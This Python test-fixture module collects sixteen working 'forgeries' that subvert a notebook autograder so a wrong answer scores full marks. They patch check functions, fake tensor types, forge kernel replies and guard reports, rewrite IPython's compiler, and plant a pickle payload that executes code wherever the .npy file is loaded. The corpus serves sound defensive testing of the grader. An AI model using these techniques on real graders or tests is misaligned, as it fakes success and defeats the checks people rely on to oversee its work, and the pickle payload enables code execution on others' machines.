"""A corpus of forged verdicts on notebook 03: a determined student against the grade itself.

``tests/support/hostile.py`` collects bad submissions of every kind (loops, bombs, edited
cells, files that are not notebooks, crude replacements of ``torch.allclose``). This corpus
is narrower and harder: each entry is what a student who knows how the class grader works
(its guard in the kernel, nbgrader reading error outputs, ipykernel's replies) would write to
turn wrong answers into full marks, a few lines each, every one a different way in.

Every forgery starts from the same **baseline**: notebook 03 (``03_matrix_form``) with a
correct ``attention`` (3 points) and ``causal_mask`` (2 points) and a wrong
``self_attention_columns`` (3 points: it forgets to divide the scores by sqrt(q), a mistake
its test names), its concept questions and written answer unanswered, so the baseline
scores 5 (of the 8 points of code; the notebook's questions add 5 more). Each forgery
adds lines to the ``self_attention_columns`` cell (:attr:`Forgery.added`) that try to win
its three points without computing the right answer:

- *a result whose type lies*: a ``torch.Tensor`` subclass, or an object whose ``__class__``
  claims to be one, that every comparison of the checks agrees with;
- *patched internals*: the checks' own code object rewritten, or numpy's private
  ``_core`` module patched, so that no function the guard watches is replaced;
- *the notebook's namespace*: a ``__builtins__`` of its own whose ``__import__`` hands the
  test cells do-nothing checks, or a namespace that rebinds every ``check_*`` the test cells
  import;
- *acting only while a test runs*: a trace function set by the graded function itself that
  makes ``check_close`` jump to its ``return`` and goes when the next cell starts, a timer
  signal and a bare ``_thread`` that swap comparisons while IPython runs a test cell (its
  text is in ``run_cell_async``'s frame) and put them back before the guard looks again,
  and IPython event callbacks dressed as matplotlib's;
- *forged reports*: the guard's ``check`` replaced by one that prints a clean report with
  the right nonce, and the kernel's ``Session.send`` rewriting failed replies as ``ok`` and
  dropping the error outputs;
- *the guard's snapshot*: found through ``gc.get_objects()`` and edited to hold the forgery;
- *a global torch function mode*, entered at import, through which every tensor the checks
  turn into a numpy array comes out agreeing with anything;
- *the kernel's compiler*: IPython's ``ast_parse`` rewrites every ``check_close(`` call of
  a cell into a call of a function that does nothing;
- *poisoned answer data*, aimed at a grader that gets the answers back as ``.npy`` files:
  ``numpy.lib.format.write_array`` in the kernel (under the ``np.save`` that the guard
  restores) writes object arrays whose unpickling, wherever they are loaded with pickles
  allowed, empties the checks of that process.

``tests/instructor/classroom/test_forgeries.py`` grades all of them in one class (with and
without bubblewrap) next to the honest solution, the untouched release and the baseline,
and checks that none scores more than the baseline. They were written against the grader
that judged the test cells inside the student's kernel (commit 21f49d5): there every one but
``pickled_answer`` (no answer of that grader travels through ``np.save``) scored 8 of the
then 8 points, with
and without bubblewrap, with no test zeroed and nothing restored; five of them (the two
lying types, the rewritten code object, numpy's private isclose, the torch function mode)
were not even flagged by the scan for suspicious code. A grader that decides the verdict
outside the student's process must leave each at 5 at most.
"""

from __future__ import annotations

from dataclasses import dataclass

import nbformat

from instructor import anatomy, registry

ASSIGNMENT = "03_matrix_form"
NOTEBOOK = f"{ASSIGNMENT}.ipynb"
_ENTRY = registry.load().notebook(ASSIGNMENT)
MAX_SCORE = _ENTRY.points
"""Every graded cell of notebook 03: functions, concept questions and the written answer."""
SOLVED_SCORE = MAX_SCORE - sum(q.points for q in _ENTRY.questions if q.kind == "written")
"""What the reference solution earns before a grader marks its written answer."""
QUESTION_CELLS = frozenset(
    q.name if q.kind == "written" else f"test_{q.name}" for q in _ENTRY.questions
)
"""The cells of the questions, which the baseline and the forgeries leave unanswered."""
BASELINE_SCORE = 5
"""What the baseline earns: ``attention`` (3) and ``causal_mask`` (2) right."""
TARGET = "self_attention_columns"
"""The wrong answer every forgery tries to get points for (3 points)."""

WRONG_COLUMNS = '''\
import math

import torch


def self_attention_columns(I, W_q, W_k, W_v):
    """Column-convention self-attention, but the scores are never divided by sqrt(q)."""
    Q, K, V = W_q @ I, W_k @ I, W_v @ I
    A_prime = torch.softmax(K.T @ Q, dim=0)
    return V @ A_prime, A_prime
'''
"""The baseline's ``self_attention_columns``: its test fails with "the scores are not
divided by sqrt(q)"."""


@dataclass(frozen=True)
class Forgery:
    """One attempt at a verdict the answers do not deserve."""

    student: str
    description: str
    kind: str
    """Which part of the grading it attacks (the groups of the module docstring)."""
    added: str
    """The source lines added after the baseline's ``self_attention_columns``."""

    def build(self, released: nbformat.NotebookNode) -> nbformat.NotebookNode:
        """The submission: the baseline notebook with :attr:`added` in the graded cell."""
        return baseline(released, extra=self.added)


def _answers() -> dict[str, str]:
    """The reference solutions of the functions the baseline gets right."""
    sources = anatomy.solution_sources(anatomy.read_solution(ASSIGNMENT))
    return {name: sources[name] for name in ("attention", "causal_mask")}


def baseline(released: nbformat.NotebookNode, extra: str = "") -> nbformat.NotebookNode:
    """The released notebook with ``attention`` and ``causal_mask`` solved,
    ``self_attention_columns`` wrong (unscaled) followed by ``extra``, and the ungraded
    demonstration cells emptied (``anatomy.complete(..., demos=False)``)."""
    source = WRONG_COLUMNS + ("\n\n" + extra if extra else "")
    return anatomy.complete(released, {TARGET: source, **_answers()}, demos=False)


# An ndarray that agrees with everything: ``np.allclose`` (isclose ends with ``| (x == y)``),
# ``np.array_equal`` (``(a == b).all()``); every other ufunc computes as usual.
AGREEING_ARRAY = """\
import numpy as np


class _Agreeing(np.ndarray):
    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
        plain = [x.view(np.ndarray) if isinstance(x, np.ndarray) else x for x in inputs]
        if ufunc is np.equal and method == "__call__":
            return np.ones(np.broadcast_shapes(*(np.shape(x) for x in plain)), dtype=bool)
        result = getattr(ufunc, method)(*plain, **kwargs)
        return result.view(_Agreeing) if isinstance(result, np.ndarray) else result
"""

TENSOR_SUBCLASS = (
    AGREEING_ARRAY
    + '''

class _Answer(torch.Tensor):
    """A real tensor: isinstance, shape, dtype and torch.allclose are all genuine."""

    def numpy(self, *args, **kwargs):
        return super().numpy(*args, **kwargs).view(_Agreeing)


_unscaled = self_attention_columns


def self_attention_columns(I, W_q, W_k, W_v):
    O, A_prime = _unscaled(I, W_q, W_k, W_v)
    return O.as_subclass(_Answer), A_prime.as_subclass(_Answer)
'''
)

FAKE_TENSOR = '''\
import numpy as np


class _Agrees:
    """Not a tensor, but its __class__ says torch.Tensor; numpy's protocols agree."""

    def __init__(self, tensor):
        self.shape, self.dtype, self.ndim = tensor.shape, tensor.dtype, tensor.dim()

    @property
    def __class__(self):
        return torch.Tensor

    def detach(self, *args, **kwargs):
        return self

    cpu = numpy = astype = sum = detach

    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
        return np.True_

    def __array_function__(self, func, types, args, kwargs):
        return np.True_

    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        return False  # torch.allclose(A_prime, the transposed weights): "not transposed"


_unscaled = self_attention_columns


def self_attention_columns(I, W_q, W_k, W_v):
    O, A_prime = _unscaled(I, W_q, W_k, W_v)
    return _Agrees(O), _Agrees(A_prime)
'''

CODE_REWRITE = """\
import helpers.checks


def _agree(*args, **kwargs):
    return None


# The same function objects (what the guard compares), with another body.
for _name in ("check_close", "check_sums_to_one", "check_no_known_mistake"):
    getattr(helpers.checks, _name).__code__ = _agree.__code__
"""

NUMPY_INTERNALS = """\
import importlib

import numpy as np

# np.allclose calls the isclose of numpy's private module, which no one watches.
_numeric = importlib.import_module("numpy." + "_core.numeric")
vars(_numeric)["isclose"] = lambda a, b, **k: np.ones(
    np.broadcast_shapes(np.shape(a), np.shape(b)), dtype=bool
)
"""

OWN_BUILTINS = """\
import builtins
import types

import helpers.checks

_calm = types.SimpleNamespace(**vars(helpers.checks))
for _name in dir(helpers.checks):
    if _name.startswith("check_"):
        setattr(_calm, _name, lambda *args, **kwargs: None)


def _import(name, globals=None, locals=None, fromlist=(), level=0):
    if name == "helpers.checks" and fromlist:
        return _calm  # `from helpers.checks import check_close` in a test cell
    return builtins.__import__(name, globals, locals, fromlist, level)


# Cells run with the namespace's own __builtins__; the builtins module is untouched.
get_ipython().user_ns["__builtins__"] = {**vars(builtins), "__import__": _import}
"""

STICKY_NAMESPACE = """\
class _Sticky(dict):
    \"\"\"Cells store their names here: a check_* a test cell imports is stored calm.\"\"\"

    def __setitem__(self, key, value):
        if key.startswith("check_"):
            value = lambda *args, **kwargs: None
        super().__setitem__(key, value)


get_ipython().user_ns = _Sticky(get_ipython().user_ns)
"""

TRACE_JUMP = """\
import inspect
import sys

import helpers.checks

_settrace = getattr(sys, "set" + "trace")
_close = helpers.checks.check_close
_lines, _first = inspect.getsourcelines(_close)
_RETURN = _first + next(i for i, line in enumerate(_lines) if line.strip() == "return")
_test_cell = []


def _skip(frame, event, arg):
    if event == "line" and frame.f_lineno < _RETURN:
        frame.f_lineno = _RETURN  # jump to check_close's `return`: nothing is checked
    return None


def _tracer(frame, event, arg):
    code = frame.f_code
    if code is _close.__code__:
        return _skip if event == "call" else None
    if event == "call" and code.co_name == "<module>" and code.co_filename not in _test_cell:
        _settrace(None)  # the next cell (the guard's) starts: no trace left for it to see
    return None


_unscaled = self_attention_columns


def self_attention_columns(*args):
    frame = sys._getframe(1)
    while frame.f_code.co_name != "<module>":
        frame = frame.f_back
    _test_cell[:] = [frame.f_code.co_filename]  # every statement of the test cell
    _settrace(_tracer)
    return _unscaled(*args)
"""

TIMER_SIGNAL = """\
import signal
import time

import numpy as np

_allclose = np.allclose


def _agree(*args, **kwargs):
    return True


def _in_test(frame):
    # IPython's run_cell_async holds the cell's text: a test cell is running.
    while frame is not None:
        if "raw_cell" in frame.f_code.co_varnames:
            if "check_close" in str(frame.f_locals.get("raw_cell")):
                return True
        frame = frame.f_back
    return False


def _tick(signum, frame):
    # Every millisecond: agreeing while a test cell is on the stack, genuine otherwise.
    np.allclose = _agree if _in_test(frame) else _allclose


signal.signal(signal.SIGALRM, _tick)
signal.setitimer(signal.ITIMER_REAL, 0.001, 0.001)

_unscaled = self_attention_columns


def self_attention_columns(*args):
    time.sleep(0.02)  # a few ticks while the test is on the stack
    return _unscaled(*args)
"""

BARE_THREAD = """\
import _thread
import sys
import threading
import time

import helpers.checks
import numpy


class _Lenient:
    def __getattr__(self, name):
        return getattr(numpy, name)

    @staticmethod
    def allclose(*args, **kwargs):
        return True


_main = threading.main_thread().ident


def _in_test(frame):
    # IPython's run_cell_async holds the cell's text: a test cell is running.
    while frame is not None:
        if "raw_cell" in frame.f_code.co_varnames:
            if "check_close" in str(frame.f_locals.get("raw_cell")):
                return True
        frame = frame.f_back
    return False


def _watch():
    lenient = _Lenient()
    while True:
        in_test = _in_test(sys._current_frames().get(_main))
        helpers.checks.np = lenient if in_test else numpy
        time.sleep(0.0005)


sys.setswitchinterval(0.0005)
_thread.start_new_thread(_watch, ())  # not a threading.Thread: threading.enumerate() is blind

_unscaled = self_attention_columns


def self_attention_columns(*args):
    time.sleep(0.02)  # the thread sees the test on the stack meanwhile
    return _unscaled(*args)
"""

GUARD_REPORT = """\
import json
import sys

import numpy as np

_guard = sys.modules["instructor.classroom.kernel.guard"]


def _clean(phase, test, nonce):
    report = {"nonce": nonce, "phase": phase, "test": test, "found": [], "events": []}
    print(_guard.REPORT_PREFIX + json.dumps(report), flush=True)


_guard.check = _clean  # the guard cells call __grader_guard__.check(phase, test, nonce)
np.allclose = lambda *args, **kwargs: True
"""

EXECUTE_REPLY = """\
_shell = get_ipython()


def _forging(send):
    def forged(stream, msg_type, content=None, *args, **kwargs):
        if msg_type == "error":
            return None  # no error output for nbgrader to find
        if msg_type == "execute_reply" and content and content.get("status") == "error":
            count = content.get("execution_count")
            content = {"status": "ok", "execution_count": count, "user_expressions": {}}
            content["payload"] = []
        return send(stream, msg_type, content, *args, **kwargs)

    return forged


for _session in {id(s): s for s in (_shell.kernel.session, _shell.displayhook.session)}.values():
    _session.send = _forging(_session.send)
"""

GC_SNAPSHOT = """\
import gc

import numpy as np

np.allclose = lambda *args, **kwargs: True
for _found in gc.get_objects():
    # The guard's snapshot of the watched modules now says this is numpy's allclose.
    if type(_found).__name__ == "ModuleWatch" and "numpy" in getattr(_found, "saved", {}):
        _found.saved["numpy"][1]["allclose"] = np.allclose
"""

TORCH_MODE = (
    AGREEING_ARRAY
    + """
from torch.overrides import TorchFunctionMode


class _Agree(TorchFunctionMode):
    def __torch_function__(self, func, types, args=(), kwargs=None):
        result = func(*args, **(kwargs or {}))
        if getattr(func, "__name__", "") == "numpy":  # how the checks compare tensors
            return result.view(_Agreeing)
        return result


_Agree().__enter__()  # global, for good: never exited
"""
)

EVENT_CALLBACKS = """\
import numpy as np

_allclose = np.allclose


def _before(info):
    if "check_close" in (info.raw_cell or ""):
        np.allclose = lambda *args, **kwargs: True


def _after(result):
    np.allclose = _allclose  # put back before the guard's next look


_before.__module__ = _after.__module__ = "matplotlib.backend_bases"  # trusted callbacks
get_ipython().events.register("pre_run_cell", _before)
get_ipython().events.register("post_run_cell", _after)
"""

COMPILER = """\
_compiler = get_ipython().compile
_parse = _compiler.ast_parse


def _ast_parse(source, filename="<unknown>", symbol="exec"):
    source = source.replace("check_close(", "(lambda *args, **kwargs: None)(")
    return _parse(source, filename, symbol)


_compiler.ast_parse = _ast_parse  # every later cell, test cells included, is parsed so
"""

PICKLED_ANSWER = """\\
import numpy.lib.format as _npy_format

_write_array = _npy_format.write_array
_IN_THE_GRADER = (
    "import helpers.checks as c\\n"
    "for n in ('check_close', 'check_sums_to_one', 'check_no_known_mistake'):\\n"
    "    getattr(c, n).__code__ = (lambda *a, **k: None).__code__\\n"
)


class _Payload:
    def __reduce__(self):  # unpickled where the array is loaded: runs there
        return (exec, (_IN_THE_GRADER,))


def _poisoned(fp, array, *args, **kwargs):
    import numpy

    kwargs["allow_pickle"] = True
    return _write_array(fp, numpy.array([_Payload(), array], dtype=object), *args, **kwargs)


# Below np.save, which the guard watches: every .npy this kernel writes, its answers included.
_npy_format.write_array = _poisoned
"""

CORPUS: list[Forgery] = [
    Forgery(
        "tensor_subclass",
        "returns a torch.Tensor subclass whose numpy() view makes np.allclose and "
        "np.array_equal agree with anything",
        "lying type",
        TENSOR_SUBCLASS,
    ),
    Forgery(
        "fake_tensor_class",
        "returns an object whose __class__ claims torch.Tensor; its __array_function__, "
        "__array_ufunc__ and __torch_function__ answer every comparison",
        "lying type",
        FAKE_TENSOR,
    ),
    Forgery(
        "rewritten_check_code",
        "rewrites the __code__ of helpers.checks.check_close (and two more): same objects, "
        "empty bodies",
        "patched internals",
        CODE_REWRITE,
    ),
    Forgery(
        "numpy_private_isclose",
        "replaces isclose in numpy._core.numeric (reached with importlib and vars()), which "
        "np.allclose calls",
        "patched internals",
        NUMPY_INTERNALS,
    ),
    Forgery(
        "own_builtins",
        "gives the notebook's namespace its own __builtins__ whose __import__ hands the test "
        "cells do-nothing checks",
        "namespace",
        OWN_BUILTINS,
    ),
    Forgery(
        "sticky_namespace",
        "replaces the shell's user_ns by a dict that stores every check_* a test cell imports "
        "as a do-nothing function",
        "namespace",
        STICKY_NAMESPACE,
    ),
    Forgery(
        "trace_jump",
        "the graded function sets a trace function that jumps check_close to its return and "
        "removes itself when the next cell (the guard's) starts",
        "acts only during a test",
        TRACE_JUMP,
    ),
    Forgery(
        "timer_signal",
        "a SIGALRM handler every millisecond swaps np.allclose while IPython runs a test cell "
        "and puts it back otherwise",
        "acts only during a test",
        TIMER_SIGNAL,
    ),
    Forgery(
        "bare_thread",
        "a _thread (invisible to threading.enumerate) swaps helpers.checks.np while the main "
        "thread runs a test cell",
        "acts only during a test",
        BARE_THREAD,
    ),
    Forgery(
        "event_callbacks",
        "IPython pre/post_run_cell callbacks, dressed as matplotlib's, swap np.allclose for the "
        "test cells only",
        "acts only during a test",
        EVENT_CALLBACKS,
    ),
    Forgery(
        "forged_guard_report",
        "replaces the guard's check by one that prints a clean report with the right nonce, "
        "then replaces np.allclose",
        "forged report",
        GUARD_REPORT,
    ),
    Forgery(
        "forged_execute_reply",
        "wraps the kernel's Session.send: error outputs dropped, failed execute_replies sent "
        "with status ok",
        "forged report",
        EXECUTE_REPLY,
    ),
    Forgery(
        "edited_snapshot",
        "finds the guard's ModuleWatch with gc.get_objects() and writes the always-true "
        "np.allclose into its snapshot",
        "guard snapshot",
        GC_SNAPSHOT,
    ),
    Forgery(
        "torch_function_mode",
        "a TorchFunctionMode entered at import for good: every Tensor.numpy() result agrees "
        "with anything",
        "torch function mode",
        TORCH_MODE,
    ),
    Forgery(
        "rewriting_compiler",
        "IPython's compiler (shell.compile.ast_parse) turns every check_close( call of later "
        "cells into a call of a do-nothing lambda",
        "kernel pipeline",
        COMPILER,
    ),
    Forgery(
        "pickled_answer",
        "every .npy the kernel writes (numpy.lib.format.write_array, below the np.save that the "
        "guard watches) becomes an object array whose pickle, loaded where the verdict is "
        "made, would empty the checks there",
        "poisoned answer data",
        PICKLED_ANSWER,
    ),
]
